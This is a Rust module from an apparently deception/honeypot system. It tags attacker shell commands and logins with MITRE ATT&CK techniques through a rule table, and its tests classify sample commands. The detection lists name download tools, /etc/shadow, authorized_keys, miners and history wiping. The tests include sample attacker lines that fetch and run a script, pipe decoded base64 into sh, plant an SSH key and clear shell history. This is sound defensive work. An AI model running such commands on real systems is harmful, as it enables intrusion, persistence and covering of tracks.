//! ATT&CK techniques named from what attackers did on the decoys: the shell commands they typed and
//! the logins they tried. One table of [`RULES`], each a class of command (the program run, or a
//! path the command touches) or of login (refused, accepted) and the canonical Enterprise ATT&CK
//! technique it tags (ids, names and tactics of [`ATTACK_VERSION`]). The attacker pages,
//! `/ttp/rules` and the exports (STIX attack patterns, MISP tags, the Navigator layer) all read this
//! table. What the words show is all a rule claims: every command typed into a decoy shell is Unix
//! Shell (T1059.004), a download tool is Ingress Tool Transfer (T1105), a refused login is Password
//! Guessing (T1110.001), and so on. Commands are read up to [`MAX_COMMAND_BYTES`].

use std::collections::{BTreeMap, BTreeSet};

use chrono::{DateTime, Utc};

use crate::db::AttackerCommand;
use crate::text::prefix_bytes;

/// Longer command text is read up to here: no class needs more, and it bounds the work.
const MAX_COMMAND_BYTES: usize = 8 * 1024;

/// One Enterprise ATT&CK technique.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Technique {
    /// The canonical id, `T1105` or `T1059.004`.
    pub id: &'static str,
    pub name: &'static str,
    /// The ATT&CK tactic's short name (a kill-chain phase of `mitre-attack`).
    pub tactic: &'static str,
}

impl Technique {
    pub fn url(&self) -> String {
        format!("https://attack.mitre.org/techniques/{}/", self.id.replace('.', "/"))
    }

    /// The technique a sub-technique belongs to, by id and name (`None` for a technique).
    pub fn parent(&self) -> Option<(&'static str, &'static str)> {
        let (parent, _) = self.id.split_once('.')?;
        PARENTS.iter().find(|(id, _)| *id == parent).copied()
    }
}

/// The techniques of the sub-techniques below, by ATT&CK's names.
const PARENTS: &[(&str, &str)] = &[
    ("T1003", "OS Credential Dumping"),
    ("T1053", "Scheduled Task/Job"),
    ("T1059", "Command and Scripting Interpreter"),
    ("T1070", "Indicator Removal"),
    ("T1087", "Account Discovery"),
    ("T1098", "Account Manipulation"),
    ("T1110", "Brute Force"),
    ("T1136", "Create Account"),
    ("T1222", "File and Directory Permissions Modification"),
    ("T1562", "Impair Defenses"),
];

const fn technique(id: &'static str, name: &'static str, tactic: &'static str) -> Technique {
    Technique { id, name, tactic }
}

pub const UNIX_SHELL: Technique = technique("T1059.004", "Unix Shell", "execution");
pub const PYTHON: Technique = technique("T1059.006", "Python", "execution");
pub const INGRESS_TOOL_TRANSFER: Technique = technique("T1105", "Ingress Tool Transfer", "command-and-control");
pub const SYSTEM_INFORMATION: Technique = technique("T1082", "System Information Discovery", "discovery");
pub const OWNER_DISCOVERY: Technique = technique("T1033", "System Owner/User Discovery", "discovery");
pub const NETWORK_CONFIGURATION: Technique = technique("T1016", "System Network Configuration Discovery", "discovery");
pub const NETWORK_CONNECTIONS: Technique = technique("T1049", "System Network Connections Discovery", "discovery");
pub const PROCESS_DISCOVERY: Technique = technique("T1057", "Process Discovery", "discovery");
pub const FILE_DISCOVERY: Technique = technique("T1083", "File and Directory Discovery", "discovery");
pub const LOCAL_ACCOUNTS: Technique = technique("T1087.001", "Local Account", "discovery");
pub const SHADOW_FILE: Technique = technique("T1003.008", "/etc/passwd and /etc/shadow", "credential-access");
pub const NETWORK_SERVICE_DISCOVERY: Technique = technique("T1046", "Network Service Discovery", "discovery");
pub const CRON: Technique = technique("T1053.003", "Cron", "persistence");
pub const PERMISSIONS: Technique =
    technique("T1222.002", "Linux and Mac File and Directory Permissions Modification", "defense-evasion");
pub const LOCAL_ACCOUNT_CREATED: Technique = technique("T1136.001", "Local Account", "persistence");
pub const ACCOUNT_MANIPULATION: Technique = technique("T1098", "Account Manipulation", "persistence");
pub const SSH_AUTHORIZED_KEYS: Technique = technique("T1098.004", "SSH Authorized Keys", "persistence");
pub const CLEAR_HISTORY: Technique = technique("T1070.003", "Clear Command History", "defense-evasion");
pub const FILE_DELETION: Technique = technique("T1070.004", "File Deletion", "defense-evasion");
pub const DECODE: Technique = technique("T1140", "Deobfuscate/Decode Files or Information", "defense-evasion");
pub const RESOURCE_HIJACKING: Technique = technique("T1496", "Resource Hijacking", "impact");
pub const FIREWALL: Technique = technique("T1562.004", "Disable or Modify System Firewall", "defense-evasion");

pub const PASSWORD_GUESSING: Technique = technique("T1110.001", "Password Guessing", "credential-access");
pub const VALID_ACCOUNTS: Technique = technique("T1078", "Valid Accounts", "initial-access");

/// What a rule looks for.
#[derive(Clone, Copy, Debug)]
pub enum Looks {
    /// Any command typed into a decoy shell.
    AnyCommand,
    /// A command that runs one of these programs (by basename, past `sudo` and the like).
    Programs(&'static [&'static str]),
    /// A command that runs this program with an argument the test accepts, as described.
    ProgramWith(&'static str, fn(&str) -> bool, &'static str),
    /// A command that names one of these paths or words anywhere.
    Mentions(&'static [&'static str]),
    /// A login a decoy refused.
    RefusedLogin,
    /// A login a decoy accepted.
    AcceptedLogin,
}

/// One tagging rule: what it looks for, and the technique it tags that with.
#[derive(Clone, Copy, Debug)]
pub struct Rule {
    /// Stable, dotted: `cmd.…` for command rules, `auth.…` for login rules.
    pub id: &'static str,
    /// Raised whenever what the rule looks for changes.
    pub version: u32,
    pub technique: Technique,
    pub looks: Looks,
}

const fn rule(id: &'static str, technique: Technique, looks: Looks) -> Rule {
    Rule { id, version: 1, technique, looks }
}

/// The ATT&CK release the technique ids, names and tactics here are taken from.
pub const ATTACK_VERSION: &str = "Enterprise ATT&CK v16";

/// Every rule, the one mapping the attacker pages, `/ttp/rules` and the exports share.
pub const RULES: &[Rule] = &[
    rule("cmd.unix-shell", UNIX_SHELL, Looks::AnyCommand),
    rule(
        "cmd.ingress-tool-transfer",
        INGRESS_TOOL_TRANSFER,
        Looks::Programs(&["wget", "curl", "tftp", "ftpget", "scp", "sftp", "rsync", "lwp-download"]),
    ),
    rule(
        "cmd.system-information",
        SYSTEM_INFORMATION,
        Looks::Programs(&[
            "uname",
            "hostname",
            "hostnamectl",
            "lscpu",
            "nproc",
            "free",
            "df",
            "uptime",
            "lsb_release",
            "dmidecode",
        ]),
    ),
    rule(
        "cmd.system-information-files",
        SYSTEM_INFORMATION,
        Looks::Mentions(&["/proc/cpuinfo", "/etc/os-release", "/proc/version"]),
    ),
    rule("cmd.owner-discovery", OWNER_DISCOVERY, Looks::Programs(&["whoami", "id", "w", "who", "last", "users"])),
    rule(
        "cmd.network-configuration",
        NETWORK_CONFIGURATION,
        Looks::Programs(&["ifconfig", "ip", "route", "arp", "iwconfig"]),
    ),
    rule("cmd.network-connections", NETWORK_CONNECTIONS, Looks::Programs(&["netstat", "ss", "lsof"])),
    rule("cmd.process-discovery", PROCESS_DISCOVERY, Looks::Programs(&["ps", "top", "htop", "pgrep"])),
    rule("cmd.file-discovery", FILE_DISCOVERY, Looks::Programs(&["ls", "find", "locate", "tree", "du", "stat"])),
    rule("cmd.local-accounts", LOCAL_ACCOUNTS, Looks::Programs(&["getent", "lastlog"])),
    rule("cmd.passwd-file", LOCAL_ACCOUNTS, Looks::Mentions(&["/etc/passwd"])),
    rule("cmd.shadow-file", SHADOW_FILE, Looks::Mentions(&["/etc/shadow"])),
    rule("cmd.network-service-discovery", NETWORK_SERVICE_DISCOVERY, Looks::Programs(&["nmap", "masscan", "zmap"])),
    rule("cmd.crontab", CRON, Looks::Programs(&["crontab"])),
    rule("cmd.cron-files", CRON, Looks::Mentions(&["/etc/cron"])),
    rule("cmd.permissions", PERMISSIONS, Looks::Programs(&["chmod", "chown", "chattr"])),
    rule("cmd.account-created", LOCAL_ACCOUNT_CREATED, Looks::Programs(&["useradd", "adduser"])),
    rule("cmd.account-manipulation", ACCOUNT_MANIPULATION, Looks::Programs(&["passwd", "chpasswd", "usermod"])),
    rule("cmd.authorized-keys", SSH_AUTHORIZED_KEYS, Looks::Mentions(&["authorized_keys"])),
    rule("cmd.history-file", CLEAR_HISTORY, Looks::Mentions(&["HISTFILE", ".bash_history"])),
    rule(
        "cmd.history-cleared",
        CLEAR_HISTORY,
        Looks::ProgramWith("history", |arg| arg.starts_with('-') && arg.contains('c'), "-c"),
    ),
    rule("cmd.file-deletion", FILE_DELETION, Looks::Programs(&["rm", "shred", "unlink", "srm", "wipe"])),
    rule("cmd.decode", DECODE, Looks::ProgramWith("base64", |arg| arg == "-d" || arg == "--decode", "-d or --decode")),
    rule("cmd.miner", RESOURCE_HIJACKING, Looks::Programs(&["xmrig", "minerd", "cpuminer", "xmr-stak"])),
    rule("cmd.mining-pool", RESOURCE_HIJACKING, Looks::Mentions(&["stratum+tcp://"])),
    rule("cmd.firewall", FIREWALL, Looks::Programs(&["iptables", "ip6tables", "ufw", "firewall-cmd", "nft"])),
    rule("cmd.python", PYTHON, Looks::Programs(&["python", "python2", "python3"])),
    rule("auth.password-guessing", PASSWORD_GUESSING, Looks::RefusedLogin),
    rule("auth.valid-account", VALID_ACCOUNTS, Looks::AcceptedLogin),
];

impl Rule {
    /// What the rule looks for, in words.
    pub fn description(&self) -> String {
        let tags = format!("tagged {} {}", self.technique.id, self.technique.name);
        match self.looks {
            Looks::AnyCommand => format!("Any command typed into a decoy shell: {tags}."),
            Looks::Programs(programs) => format!("A command runs {}: {tags}.", programs.join(", ")),
            Looks::ProgramWith(program, _, args) => format!("A command runs {program} with {args}: {tags}."),
            Looks::Mentions(words) => format!("A command names {}: {tags}.", words.join(", ")),
            Looks::RefusedLogin => format!("A login a decoy refused (each attempt counts): {tags}."),
            Looks::AcceptedLogin => format!("A login a decoy accepted: {tags}."),
        }
    }
}

/// Words that run the next word as the program.
const WRAPPERS: &[&str] = &["sudo", "doas", "nohup", "nice", "time", "timeout", "exec", "command", "busybox", "env"];

/// Every technique one command line shows.
pub fn techniques_of(command: &str) -> BTreeSet<Technique> {
    let command = prefix_bytes(command, MAX_COMMAND_BYTES);
    if command.trim().is_empty() {
        return BTreeSet::new();
    }
    // Each segment's program (its basename) and arguments.
    let mut invoked: Vec<(&str, Vec<&str>)> = Vec::new();
    for segment in command.split([';', '|', '&', '\n', '(', ')', '`']) {
        let words: Vec<&str> = segment.split_whitespace().collect();
        let Some(at) = words.iter().position(|w| !w.contains('=') && !WRAPPERS.contains(w) && !w.starts_with('-'))
        else {
            continue;
        };
        invoked.push((words[at].rsplit('/').next().unwrap_or(words[at]), words[at + 1..].to_vec()));
    }
    RULES
        .iter()
        .filter(|rule| match rule.looks {
            Looks::AnyCommand => true,
            Looks::Programs(programs) => invoked.iter().any(|(p, _)| programs.contains(p)),
            Looks::ProgramWith(program, accepts, _) => {
                invoked.iter().any(|(p, args)| *p == program && args.iter().any(|a| accepts(a)))
            }
            Looks::Mentions(words) => words.iter().any(|w| command.contains(w)),
            Looks::RefusedLogin | Looks::AcceptedLogin => false,
        })
        .map(|rule| rule.technique)
        .collect()
}

/// The technique a login with this outcome (a decoy's `success` or `failure`) shows, if any.
pub fn technique_of_login(outcome: Option<&str>) -> Option<Technique> {
    let looks_for = |rule: &&Rule| match rule.looks {
        Looks::RefusedLogin => outcome == Some("failure"),
        Looks::AcceptedLogin => outcome == Some("success"),
        _ => false,
    };
    RULES.iter().find(looks_for).map(|rule| rule.technique)
}

/// How often, and when first and last, one technique showed in what an attacker did.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Seen {
    pub technique: Technique,
    /// Commands, or login attempts, that showed it.
    pub count: u64,
    pub first: DateTime<Utc>,
    pub last: DateTime<Utc>,
}

/// A login attempt as the rules read it: its outcome, how many times, when first and last.
#[derive(Clone, Debug)]
pub struct Login<'a> {
    pub outcome: Option<&'a str>,
    pub attempts: u64,
    pub first: DateTime<Utc>,
    pub last: DateTime<Utc>,
}

/// Each technique `commands` and `logins` show, in technique order.
pub fn seen_in(commands: &[AttackerCommand], logins: &[Login<'_>]) -> Vec<Seen> {
    let mut seen: BTreeMap<Technique, Seen> = BTreeMap::new();
    let mut count = |technique: Technique, n: u64, first: DateTime<Utc>, last: DateTime<Utc>| {
        let entry = seen.entry(technique).or_insert(Seen { technique, count: 0, first, last });
        entry.count += n;
        entry.first = entry.first.min(first);
        entry.last = entry.last.max(last);
    };
    for command in commands {
        for technique in techniques_of(&command.command) {
            count(technique, 1, command.timestamp, command.timestamp);
        }
    }
    for login in logins {
        if let Some(technique) = technique_of_login(login.outcome) {
            count(technique, login.attempts, login.first, login.last);
        }
    }
    seen.into_values().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_rolled_up_per_technique_and_sub_techniques_name_their_parent() {
        let at = |minute: u32| chrono::TimeZone::with_ymd_and_hms(&Utc, 2026, 11, 28, 10, minute, 0).unwrap();
        let command = |text: &str, minute| AttackerCommand {
            log_id: i64::from(minute),
            timestamp: at(minute),
            service: "ssh".into(),
            decky: "d".into(),
            command: text.into(),
        };
        let seen = seen_in(&[command("wget http://x", 5), command("uname -a", 1), command("curl -O http://y", 9)], &[]);
        let shell = seen.iter().find(|s| s.technique == UNIX_SHELL).unwrap();
        assert_eq!((shell.count, shell.first, shell.last), (3, at(1), at(9)));
        let transfer = seen.iter().find(|s| s.technique == INGRESS_TOOL_TRANSFER).unwrap();
        assert_eq!((transfer.count, transfer.first, transfer.last), (2, at(5), at(9)));
        assert_eq!(UNIX_SHELL.parent(), Some(("T1059", "Command and Scripting Interpreter")));
        assert_eq!(INGRESS_TOOL_TRANSFER.parent(), None);
        for sub in [PYTHON, SHADOW_FILE, CRON, PERMISSIONS, LOCAL_ACCOUNT_CREATED, SSH_AUTHORIZED_KEYS, CLEAR_HISTORY]
            .into_iter()
            .chain([FILE_DELETION, LOCAL_ACCOUNTS, FIREWALL, PASSWORD_GUESSING])
        {
            assert!(sub.parent().is_some(), "{} has no parent", sub.id);
        }
    }

    fn ids(command: &str) -> Vec<&'static str> {
        techniques_of(command).into_iter().map(|t| t.id).collect::<BTreeSet<_>>().into_iter().collect()
    }

    #[test]
    fn commands_name_their_techniques() {
        assert_eq!(ids("uname -a; id"), ["T1033", "T1059.004", "T1082"]);
        assert_eq!(ids("cd /tmp && wget http://x/y.sh && chmod +x y.sh"), ["T1059.004", "T1105", "T1222.002"]);
        assert_eq!(ids("sudo /usr/bin/curl -O http://x"), ["T1059.004", "T1105"]);
        assert_eq!(ids("cat /etc/passwd | grep root"), ["T1059.004", "T1087.001"]);
        assert_eq!(ids("echo ssh-rsa AAA >> ~/.ssh/authorized_keys"), ["T1059.004", "T1098.004"]);
        assert_eq!(ids("history -c; unset HISTFILE"), ["T1059.004", "T1070.003"]);
        assert_eq!(ids("echo aGk= | base64 -d | sh"), ["T1059.004", "T1140"]);
        assert!(ids("").is_empty());
    }

    #[test]
    fn logins_are_tagged_and_every_rule_is_named_once() {
        assert_eq!(technique_of_login(Some("failure")), Some(PASSWORD_GUESSING));
        assert_eq!(technique_of_login(Some("success")), Some(VALID_ACCOUNTS));
        assert_eq!(technique_of_login(None), None);
        let at = chrono::TimeZone::with_ymd_and_hms(&Utc, 2026, 11, 29, 1, 0, 0).unwrap();
        let refused = Login { outcome: Some("failure"), attempts: 7, first: at, last: at };
        let seen = seen_in(&[], &[refused.clone(), refused]);
        assert_eq!((seen.len(), seen[0].technique, seen[0].count), (1, PASSWORD_GUESSING, 14));
        let ids: BTreeSet<&str> = RULES.iter().map(|rule| rule.id).collect();
        assert_eq!(ids.len(), RULES.len(), "rule ids are unique");
        assert!(RULES.iter().all(|rule| rule.description().contains(rule.technique.id)));
    }

    #[test]
    fn hostile_text_is_read_without_panicking() {
        for text in ["|||;;;&&&", "\u{0}\u{ffff}", &"a ".repeat(100_000), "é".repeat(5000).as_str()] {
            let _ = techniques_of(text);
        }
    }
}
